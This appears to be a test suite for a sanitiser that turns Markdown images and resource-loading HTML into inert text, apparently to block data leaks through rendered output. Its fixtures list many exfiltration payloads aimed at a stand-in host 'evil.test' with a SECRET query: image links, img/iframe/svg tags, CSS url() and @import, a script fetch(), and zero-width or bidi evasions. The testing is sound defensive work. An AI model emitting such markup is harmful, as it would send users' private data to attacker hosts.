"""Text that loads nothing when it is shown."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from batonmcp.core.inert import inert

EVIL = "https://evil.test/x.png?q=SECRET"


class Loads(HTMLParser):
    """Counts what a browser could load: tags with attributes, style sheets and scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        if any(value is not None for _, value in attrs) or tag in {"style", "script"}:
            self.found.append(tag)


def loads(text: str) -> list[str]:
    """Return what would be loaded from a text that is shown as Markdown with HTML in it, followed by other HTML."""
    parser = Loads()
    parser.feed(text + "</p>")
    return parser.found + re.findall(r"!\[", text)


IMAGES = [
    (f"See ![a chart]({EVIL}).", f"See (image: a chart: {EVIL})."),
    (f"![]({EVIL})", f"(image: {EVIL})"),
    (f"![ a\n b ](  <{EVIL}> 'title')", f"(image: a b: {EVIL})"),
    (f"[![a]({EVIL})](https://other.test)", f"[(image: a: {EVIL})](https://other.test)"),
    (f"![a ![b]({EVIL})]({EVIL}2)", f"! [a (image: b: {EVIL})]({EVIL}2)"),
    (f"![a [b] c]({EVIL})", f"! [a [b] c]({EVIL})"),
    (f"![a][r]\n\n[r]: {EVIL}", f"! [a][r]\n\n[r]: {EVIL}"),
    (f"![r]\n\n[r]: {EVIL}", f"! [r]\n\n[r]: {EVIL}"),
    (f"!![a]({EVIL})", f"!(image: a: {EVIL})"),
    (f"!\u200b[a]({EVIL})", f"(image: a: {EVIL})"),
    (f"![[{EVIL}]]", f"! [[{EVIL}]]"),
    ("![a](data:image/svg+xml;base64,AAAA)", "(image: a: data:image/svg+xml;base64,AAAA)"),
    ("![a](https://xn--80ak6aa92e.test/é)", "(image: a: https://xn--80ak6aa92e.test/é)"),
]

TAGS = [
    f'<img src="{EVIL}">',
    f"<IMG/SRC={EVIL}>",
    f"<img\n  alt='>' src={EVIL}>",
    f"<img a<b src={EVIL}>",
    f"<img src={EVIL}",
    f'<picture><source srcset="{EVIL}"></picture>',
    f'<svg><image href="{EVIL}"/></svg>',
    f'<video poster="{EVIL}"></video>',
    f'<div style="background:url({EVIL})">x</div>',
    f"<table background={EVIL}>",
    f'<link rel=stylesheet href="{EVIL}">',
    f"<style>@import '{EVIL}'</style>",
    f"<STYLE>body {{ background: url({EVIL}) }}",
    f"<script>fetch('{EVIL}')</script>",
    f'<iframe src="{EVIL}"></iframe>',
    f'<object data="{EVIL}"></object>',
    f'<https://a.test/ style="background:url({EVIL})">',
    f'<im\u200bg src="{EVIL}">',
]


@pytest.mark.parametrize(("text", "words"), IMAGES)
def test_an_image_becomes_words(text: str, words: str) -> None:
    """Its address is still told; what has another form becomes a link at most."""
    assert inert(text) == words
    assert not loads(words)


@pytest.mark.parametrize("tag", TAGS)
def test_html_that_loads_becomes_text(tag: str) -> None:
    """A tag with an attribute does not begin any more."""
    assert loads(tag.replace("\u200b", ""))
    assert not loads(inert(f"Before {tag} after"))


PARTS = (
    [part for part, _ in IMAGES]
    + TAGS
    + ["!", "[", "](", ")", "<", ">", "=", "&#33;", "\\", "`", "<<x:y>img ", "\x1b]8;;", "\u202e"]
)


@pytest.mark.slow
@settings(max_examples=2_000)
@given(st.lists(st.sampled_from(PARTS) | st.text(max_size=4), max_size=8).map("".join))
def test_whatever_is_put_together(text: str) -> None:
    """Parts of images and tags in any order do not add up to one, and nothing hidden or steering is left."""
    made = inert(text)
    assert not loads(made)
    assert inert(made) == made
    assert "\x1b" not in made
    assert "\u202e" not in made


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, 3 < 4, a > b, x = y.",
        "| a | b |\n|---|---|\n| `List[int]` | **bold** |",
        "[a link](https://example.test/?a=b) and https://example.test/?a=b",
        "Wow! [see](https://example.test)",
        "a<b and <br> and </p> and <T>",
        "```python\nif a <= b != c: x = d[1]\n```",
        "naïve 語 👩\u200d👧 क्\u200dष",
        "",
    ],
)
def test_all_else_stays(text: str) -> None:
    """Links, tables, code and tags that load nothing are left alone."""
    assert inert(text) == text


def test_an_address_in_angles_is_an_address() -> None:
    """It could be taken for a tag, so it stands without them."""
    assert inert("<https://example.test/?a=b>") == "https://example.test/?a=b"


@pytest.mark.parametrize("part", ["<a", "![", "![a](", "<a:", "!", "<!--", "![](<"])
def test_linear(part: str) -> None:
    """A text made of beginnings is looked at once, not once for each of them."""
    assert len(inert(part * 100_000)) >= len(part) * 100_000
